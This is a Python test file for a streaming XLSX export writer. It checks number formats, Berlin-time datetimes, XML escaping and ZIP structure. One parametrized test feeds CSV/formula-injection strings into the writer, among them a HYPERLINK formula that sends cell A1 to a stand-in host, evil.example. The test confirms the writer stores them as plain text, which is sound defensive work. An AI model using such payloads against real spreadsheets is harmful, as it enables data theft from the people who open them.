"""The streaming XLSX writer (app/platform/web/xlsx.py), read back with openpyxl and from its own XML.

openpyxl reads numbers as floats, so the exactness of money is checked on the sheet's XML text.
"""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from fractions import Fraction
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.platform.web.exports import Column, export_response, to_xlsx, xlsx_chunks
from app.platform.web.xlsx import SheetColumn, date_serial, datetime_serial, number_text, sheet_title, xlsx_stream

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
COLUMNS = [Column("Kommune"), Column("Betrag", "money"), Column("Datum", "date"), Column("Anzahl", "int"),
           Column("Quote", "percent"), Column("Wert", "decimal"), Column("Eingegangen", "datetime")]
ROW = ["Köln", -123456, date(2020, 7, 1), 1234, Decimal("12.5"), Decimal("0.10"),
       datetime(2022, 6, 15, 6, 14, tzinfo=UTC)]


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def _sheet_xml(data: bytes) -> dict[str, ElementTree.Element]:
    """The cells of sheet1.xml by reference (``B2``), parsed from the file's own XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        root = ElementTree.fromstring(package.read("xl/worksheets/sheet1.xml"))
    return {cell.get("r"): cell for cell in root.iter(f"{MAIN}c")}


def test_values_types_and_number_formats_read_back():
    sheet = _sheet(to_xlsx(COLUMNS, [ROW]))
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in sheet[1]] == [c.label for c in COLUMNS]
    assert cells[0].value == "Köln" and cells[0].data_type == "s" and cells[0].quotePrefix
    assert Decimal(str(cells[1].value)) == Decimal("-1234.56") and cells[1].data_type == "n"
    assert cells[2].value == datetime(2020, 7, 1) and cells[2].is_date
    assert cells[3].value == 1234 and cells[4].value == 12.5
    assert cells[6].value == datetime(2022, 6, 15, 8, 14)  # Berlin wall time (summer: UTC+2)
    assert [c.number_format for c in cells] == ["General", '#,##0.00 "€"', "DD.MM.YYYY", "#,##0", "0.0", "#,##0.00",
                                                "DD.MM.YYYY HH:MM"]
    assert not any(c.quotePrefix for c in cells[1:])


def test_header_bold_frozen_first_row_and_column_widths():
    columns = [Column("Nr."), Column("Ein sehr langer Spaltenname für die Breite", "money"), Column("x" * 80)]
    sheet = _sheet(to_xlsx(columns, []))
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [12, 46, 60]
    assert sheet.max_row == 1


def test_none_is_an_empty_cell_and_the_next_cells_keep_their_column():
    sheet = _sheet(to_xlsx(COLUMNS, [[None, None, None, 7, None, None, None], ["a", 1, None, None, None, None, None]]))
    assert [c.value for c in sheet[2]] == [None, None, None, 7, None, None, None]
    assert sheet["A3"].value == "a" and sheet["B3"].value == 0.01 and sheet["D3"].value is None


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1;"x")', "+1", "-1+2", "@SUM(A1)",
                                   "=1<2>0", " leading and trailing spaces "])
def test_formula_like_text_stays_text(value):
    data = to_xlsx([Column("Text")], [[value]])
    cell = _sheet(data)["A2"]
    assert cell.value == value and cell.data_type == "s" and cell.quotePrefix
    assert _sheet_xml(data)["A2"].get("t") == "inlineStr"


def test_characters_illegal_in_xml_are_removed_and_markup_is_escaped():
    value = "a\x00b\x08c\x0bd\x1fe\ud800f\ufffe&<tag>\"'\tg"
    cell = _sheet(to_xlsx([Column("Text")], [[value]]))["A2"]
    assert cell.value == "abcdef&<tag>\"'\tg"


def test_excel_escape_sequences_in_text_stay_literal():
    """Excel reads ``_x0041_`` as "A"; the writer escapes the underscore so the text arrives unchanged."""
    cells = _sheet_xml(to_xlsx([Column("Text")], [["Beleg_x0041_Nr"]]))
    assert cells["A2"].find(f"{MAIN}is/{MAIN}t").text == "Beleg_x005F_x0041_Nr"


def test_long_titles_are_cut_to_31_characters_and_escaped():
    title = "Ausgaben & Belege <Kreis Kleve> [2021/22] bis zum Ende"
    sheet = _sheet(to_xlsx([Column("A")], [["x"]], title=title))
    assert sheet.title == "Ausgaben & Belege <Kreis Kleve>"[:31]
    assert sheet_title("a[b]c:d*e?f/g\\h") == "a_b_c_d_e_f_g_h" and sheet_title("''") == "Export"


def test_text_columns_take_numbers_and_booleans_and_number_columns_refuse_floats():
    sheet = _sheet(to_xlsx([Column("Nr."), Column("Ja")], [[17, True], [Decimal("2.50"), "nein"]]))
    assert sheet["A2"].value == 17 and sheet["A2"].data_type == "n" and sheet["B2"].value is True
    with pytest.raises(TypeError, match="float"):
        b"".join(xlsx_stream([SheetColumn("Betrag", "number")], [[0.1]]))


def test_numbers_are_plain_decimal_text():
    assert number_text(Decimal("1E+3")) == "1000" and number_text(Decimal("-1.5E-7")) == "-0.00000015"
    assert number_text(Decimal("-1234.56")) == "-1234.56" and number_text(-7) == "-7"
    with pytest.raises(ValueError):
        number_text(Decimal("NaN"))


@given(st.integers(min_value=-(10**17), max_value=10**17))
def test_any_cents_value_round_trips_exactly_through_the_sheet_xml(cents):
    text = _sheet_xml(to_xlsx([Column("Betrag", "money")], [[cents]]))["A2"].find(f"{MAIN}v").text
    assert "e" not in text.lower() and Decimal(text) * 100 == cents


def test_date_serials_are_days_since_30_12_1899():
    assert date_serial(date(1900, 3, 1)) == "61" and date_serial(date(2020, 7, 1)) == "44013"
    assert datetime_serial(datetime(2020, 7, 1)) == "44013"
    assert datetime_serial(datetime(2020, 7, 1, 12)) == "44013.5"
    assert datetime_serial(datetime(2020, 7, 1, 23, 59, 59, 999_999)) == "44013.99999999999"  # still that day


@given(st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 30)))
def test_datetime_serials_are_within_half_an_eleventh_decimal_of_the_exact_value(moment):
    exact = Fraction(moment.toordinal() - date(1899, 12, 30).toordinal()) + Fraction(
        (moment - moment.replace(hour=0, minute=0, second=0, microsecond=0)) // timedelta(microseconds=1),
        86_400_000_000)
    assert abs(Fraction(Decimal(datetime_serial(moment))) - exact) <= Fraction(1, 2 * 10**11)


def test_datetimes_read_back_to_the_minute_in_berlin_wall_time():
    moments = [datetime(2022, 1, 15, 6, 14, tzinfo=UTC), datetime(2022, 10, 30, 0, 59, tzinfo=UTC),
               datetime(2023, 3, 26, 1, 0, tzinfo=UTC), datetime(2021, 5, 4, 23, 59)]
    sheet = _sheet(to_xlsx([Column("Zeit", "datetime")], [[m] for m in moments]))
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        datetime(2022, 1, 15, 7, 14), datetime(2022, 10, 30, 2, 59), datetime(2023, 3, 26, 3, 0),
        datetime(2021, 5, 4, 23, 59)]


def _rows_then_fail(count: int):
    for i in range(count):
        yield ["Köln", i, date(2021, 1, 4), i, None, None, None]
    raise RuntimeError("the database went away")


def test_the_first_chunk_leaves_before_the_rows_are_read_and_rows_stream_in_chunks():
    chunks = xlsx_chunks(COLUMNS, _rows_then_fail(30_000), chunk_size=16 * 1024)
    first = next(chunks)
    assert first.startswith(b"PK\x03\x04") and b"xl/worksheets/sheet1.xml" in first
    more = []
    with pytest.raises(RuntimeError, match="went away"):
        for chunk in chunks:
            more.append(chunk)
    assert len(more) >= 2  # rows left as chunks before the source failed


def test_a_lazy_download_sends_its_first_bytes_before_it_reads_a_row(app):
    """Issue #19, first byte: the response body's first chunk needs no row from the database."""
    read: list = []

    def rows():
        for row in [ROW] * 3:
            read.append(row)
            yield row

    with app.test_request_context():
        body = iter(export_response("x", "xlsx", COLUMNS, rows(), lazy=True).response)
        assert next(body).startswith(b"PK\x03\x04") and read == []
        rest = b"".join(body)
    assert len(read) == 3 and rest[-22:].startswith(b"PK\x05\x06")  # the ZIP's end record closes the file


def test_the_zip_is_valid_written_forward_and_the_same_rows_give_the_same_bytes():
    data = to_xlsx(COLUMNS, [ROW] * 3)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        infos = package.infolist()
    assert [i.filename for i in infos] == ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                                           "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"]
    assert all(i.flag_bits & 0x08 and i.compress_type == zipfile.ZIP_DEFLATED for i in infos)  # data descriptors
    assert to_xlsx(COLUMNS, [ROW] * 3) == data


@pytest.mark.skipif(not (shutil.which("libreoffice") or shutil.which("soffice")), reason="no LibreOffice here")
def test_libreoffice_opens_the_file(tmp_path):
    source = tmp_path / "export.xlsx"
    source.write_bytes(to_xlsx(COLUMNS, [ROW, ["=1+1", 5, None, None, None, None, None]]))
    office = shutil.which("libreoffice") or shutil.which("soffice")
    subprocess.run([office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):59,34,76,1,,1031", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=120)
    lines = (tmp_path / "export.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("Kommune;Betrag;Datum")
    assert lines[1].startswith("Köln;") and "01.07.2020" in lines[1]
    assert lines[2].startswith("=1+1;")  # text, not the formula's result
